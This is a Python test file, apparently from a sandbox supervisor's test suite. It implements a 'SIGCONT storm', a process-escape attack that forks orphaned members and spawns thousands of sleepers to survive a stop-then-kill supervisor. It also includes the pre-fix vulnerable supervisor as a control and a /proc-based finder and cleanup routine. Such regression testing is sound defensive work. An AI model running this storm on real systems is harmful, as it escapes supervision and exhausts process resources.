"""The process-escape attack (a SIGCONT storm), the old stop-then-kill supervisor, and a finder.

Only the standard library, so the same file runs inside a sandbox as a script:
`python process_storm.py storm TOKEN SLEEPERS` starts the attack and returns once it is up,
`python process_storm.py alive TOKEN` prints how many of its processes live, and
`python process_storm.py old-supervisor COMMAND` runs COMMAND under the supervisor as it was
before the fix (the positive control). Every process of the attack carries TOKEN in its
argv (the forked members) or its environment (the sleepers).
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import sys
import time
from pathlib import Path

SCRIPT = Path(__file__).resolve()
SLEEPERS = 2500
"""What the red team used: each /proc scan has that many more entries to read."""


def _member() -> None:
    """SIGCONT the group and fork short-lived children forever; a child whose parent died takes its place."""
    while True:
        os.kill(0, signal.SIGCONT)  # undo any SIGSTOP sent to the group
        me = os.getpid()
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.001)
            continue
        if pid == 0:
            for _ in range(20):
                os.kill(0, signal.SIGCONT)
                time.sleep(0.0005)
                if os.getppid() != me:
                    break  # the parent is gone: carry on as a member
            else:
                os._exit(0)
            continue
        try:
            while os.waitpid(-1, os.WNOHANG)[0]:
                pass
        except ChildProcessError:
            pass


def storm(token: str, sleepers: int) -> None:
    """Start the attack: setsid, a double fork, sleepers, four members; return once it is up."""
    ready_r, ready_w = os.pipe()
    if os.fork():
        os.close(ready_w)
        if os.read(ready_r, 2) == b"up":
            print(f"storm up: {sleepers} sleepers", flush=True)
        return
    os.close(ready_r)
    os.setsid()
    if os.fork():
        os._exit(0)  # every member is an orphan from the start
    env = {"FROGDESK_STORM": token, "PATH": "/usr/bin:/bin"}
    for _ in range(sleepers):
        try:
            os.posix_spawn("/bin/sleep", ["sleep", "600"], env)
        except OSError:
            break
    for _ in range(3):
        if os.fork() == 0:
            break
    else:
        os.write(ready_w, b"up")
    os.close(ready_w)
    try:
        _member()
    finally:
        os._exit(0)


def _stat(pid: int) -> list[bytes]:
    with open(f"/proc/{pid}/stat", "rb") as fh:
        return fh.read().rsplit(b")", 1)[1].split()


def alive(token: str) -> list[int]:
    """Living processes (not zombies) whose argv or environment holds token, but for us and our ancestors."""
    skip = {os.getpid()}
    pid = os.getpid()
    while pid > 1:
        try:
            pid = int(_stat(pid)[1])
        except (OSError, IndexError):
            break
        skip.add(pid)
    found = []
    needle = token.encode()
    # /proc lists by pid and keeps listing pids born meanwhile: a storm would keep the
    # scan going forever. Stop at the last pid given out when it began.
    with open("/proc/sys/kernel/ns_last_pid", "rb") as fh:
        last = int(fh.read())
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit() or int(entry.name) in skip:
            continue
        if int(entry.name) > last:
            break
        for part in ("cmdline", "environ"):
            try:
                with open(f"/proc/{entry.name}/{part}", "rb") as fh:
                    data = fh.read()
                if needle in data and _stat(int(entry.name))[0] not in (b"Z", b"X"):
                    found.append(int(entry.name))
                    break
            except OSError:
                break
    return found


def kill_all(token: str) -> int:
    """Clean up after a failed run: kill every process of the attack by its pid and group; how many were left."""
    left = alive(token)
    first = len(left)
    for _ in range(500):
        if not left:
            break
        for pid in left:
            for kill in (os.killpg, os.kill):  # the group at once: no member forks meanwhile
                with contextlib.suppress(OSError):
                    kill(os.getpgid(pid) if kill is os.killpg else pid, signal.SIGKILL)
        time.sleep(0.02)
        left = alive(token)
    return first


# --- the supervisor before the fix, as the positive control -------------------------


def _old_descendants(root: int) -> list[int]:
    children: dict[int, list[int]] = {}
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                children.setdefault(int(_stat(int(entry.name))[1]), []).append(int(entry.name))
            except (OSError, IndexError):
                continue
    out, queue = [], list(children.get(root, []))
    while queue:
        current = queue.pop(0)
        out.append(current)
        queue.extend(children.get(current, []))
    return out


def _signal(pid: int, sig: int) -> None:
    with contextlib.suppress(ProcessLookupError, PermissionError):
        os.kill(pid, sig)


def old_kill_tree(root: int) -> None:
    """kill_tree as it was: stop every descendant (rescanning), then kill them all, then SIGCONT."""
    frozen: set[int] = set()
    for _ in range(200):
        fresh = [p for p in _old_descendants(root) if p not in frozen]
        if not fresh:
            break
        for pid in fresh:
            _signal(pid, signal.SIGSTOP)
        frozen.update(fresh)
    for pid in frozen:
        _signal(pid, signal.SIGKILL)
    for pid in frozen:
        _signal(pid, signal.SIGCONT)


def old_supervisor(command: str) -> None:
    """The old supervisor: a subreaper that runs bash, then old_kill_tree on itself.

    The old one then waited for every child, for as long as a survivor lived (until
    FrogDesk's timeout ended it and pid 1 inherited the survivors); this one exits.
    """
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
    child = os.fork()
    if child == 0:
        os.execv("/bin/bash", ["/bin/bash", "-c", command])
    os.waitpid(child, 0)
    old_kill_tree(os.getpid())
    time.sleep(0.3)
    try:
        while os.waitpid(-1, os.WNOHANG)[0]:
            pass
    except ChildProcessError:
        pass


if __name__ == "__main__":
    if sys.argv[1] == "storm":
        storm(sys.argv[2], int(sys.argv[3]))
    elif sys.argv[1] == "alive":
        print(f"attack processes alive: {len(alive(sys.argv[2]))}")
    elif sys.argv[1] == "old-supervisor":
        old_supervisor(sys.argv[2])
